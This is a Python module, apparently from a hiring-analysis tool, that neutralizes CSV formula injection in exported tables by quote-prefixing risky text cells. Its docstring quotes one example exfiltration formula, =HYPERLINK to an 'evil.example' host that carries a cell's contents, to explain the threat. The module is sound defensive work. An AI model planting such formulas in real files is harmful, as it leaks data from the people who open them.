"""Text cells made safe to open in a spreadsheet (CSV or formula injection, OWASP).

A hiring lead opens an exported table in a spreadsheet; a cell such as ``=HYPERLINK(...)`` written
by a candidate's notes or a question's title would run as a formula there. Every CSV the workbook
writes passes its frame through :func:`safe_csv_frame` (:func:`analysis.reports.tables.write_tables`,
the ``kit`` command), which neutralizes each text cell with :func:`neutralize_csv_cell` and leaves
numbers numbers.
"""

from __future__ import annotations

import re
import unicodedata

import numpy as np
import pandas as pd

__all__ = ["CSV_TRIGGERS", "neutralize_csv_cell", "safe_csv_frame"]

#: First characters that make a spreadsheet read a cell as a formula or control sequence (OWASP,
#: "CSV Injection": equals, plus, minus, at, tab 0x09, carriage return 0x0D).
CSV_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
#: What the first visible character of a formula is (after leading whitespace and invisibles).
_FORMULA_STARTS = frozenset("=+-@")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _ignorable(ch: str) -> bool:
    """A character a spreadsheet may skip before it looks for a formula: whitespace of any kind
    (space, tab, newline, no-break space, ideographic space, line/paragraph separators), control
    characters and invisible format characters (zero-width space and joiners, BOM, word joiner)."""
    return ch.isspace() or unicodedata.category(ch) in ("Cc", "Cf", "Zs", "Zl", "Zp")


def neutralize_csv_cell(value):
    """One cell made safe to open in a spreadsheet (OWASP CSV-injection advice).

    A spreadsheet treats a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula, and a
    leading tab or carriage return can smuggle one in; a formula such as
    ``=HYPERLINK("http://evil.example/?"&A1, "click")`` can send data away or run commands when a
    hiring lead opens the file. Such a text cell gets a leading single quote, which spreadsheets
    show as plain text.

    The check is made on the first *visible* character: leading whitespace of every kind (space,
    tab, newline, no-break space), control characters and zero-width characters are skipped first,
    because spreadsheets trim some of them on import, and the character found is compared after
    Unicode compatibility folding (NFKC), so a full-width ``＝`` counts as ``=``.

    Parameters
    ----------
    value : object
        The cell. Text (``str``) is checked; anything else (int, float, bool, NaN, dates) is
        returned unchanged, so numbers stay numbers: ``-0.25`` remains ``-0.25``.

    Returns
    -------
    object
        ``"'" + value`` for text that begins with one of :data:`CSV_TRIGGERS`, or whose first
        visible character is ``=``, ``+``, ``-`` or ``@``, and that is not a plain number; else
        ``value`` unchanged.

    Notes
    -----
    Text that is exactly a plain decimal number (``"-0.25"``, ``"+3"``, ``"1e-3"``), optionally
    after ASCII spaces (``" -3"``), is left as it is: a spreadsheet reads it as that number and it
    cannot hold a formula. ``"-1+2"`` is not a plain number and is neutralized.

    Examples
    --------
    >>> neutralize_csv_cell("=1+1")
    "'=1+1"
    >>> neutralize_csv_cell(" =HYPERLINK(1)")
    "' =HYPERLINK(1)"
    >>> neutralize_csv_cell(-0.25)
    -0.25
    >>> neutralize_csv_cell("-0.25")
    '-0.25'
    """
    if not isinstance(value, str) or not value:
        return value
    if value[0] not in CSV_TRIGGERS:
        i = 0
        while i < len(value) and _ignorable(value[i]):
            i += 1
        if i == len(value) or unicodedata.normalize("NFKC", value[i])[:1] not in _FORMULA_STARTS:
            return value
        if value[:i].strip(" ") == "" and _PLAIN_NUMBER.fullmatch(value[i:]):
            return value  # " -3": a number after plain spaces
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def _is_numeric_kind(dtype) -> bool:
    if isinstance(dtype, pd.CategoricalDtype):
        return False
    try:
        kind = np.dtype(dtype).kind
    except TypeError:  # pandas extension dtypes (Int64, boolean, Float64, str, ...)
        kind = getattr(dtype, "kind", "O")
    return kind in "biufcM"


def _neutralize_series(s: pd.Series) -> pd.Series:
    if _is_numeric_kind(s.dtype):
        return s
    if isinstance(s.dtype, pd.CategoricalDtype):
        cats = s.cat.categories
        if cats.dtype.kind in "OSU" or pd.api.types.is_string_dtype(cats.dtype):
            # prefixing a quote is one-to-one, so categories stay distinct
            return s.cat.rename_categories([neutralize_csv_cell(c) for c in cats])
        return s
    if s.dtype.kind == "m":  # timedeltas print as "-1 days +..."
        s = s.astype(str)
    return s.map(neutralize_csv_cell)


def safe_csv_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells and column names are safe to open in a spreadsheet.

    Applies :func:`neutralize_csv_cell` to every text cell (object, string and categorical columns)
    and to the column names; numeric, boolean and datetime columns are untouched, so a
    ``discrimination`` of ``-0.25`` is still the number ``-0.25`` when read back.

    Parameters
    ----------
    df : DataFrame
        Any table. The index is not touched (reset it first if it should be exported).

    Returns
    -------
    DataFrame
        Same shape, same dtypes for numeric columns.
    """
    out = df.copy()
    for i in range(out.shape[1]):
        out.isetitem(i, _neutralize_series(out.iloc[:, i]))
    out.columns = out.columns.map(
        lambda c: tuple(map(neutralize_csv_cell, c)) if isinstance(c, tuple) else neutralize_csv_cell(c))
    return out
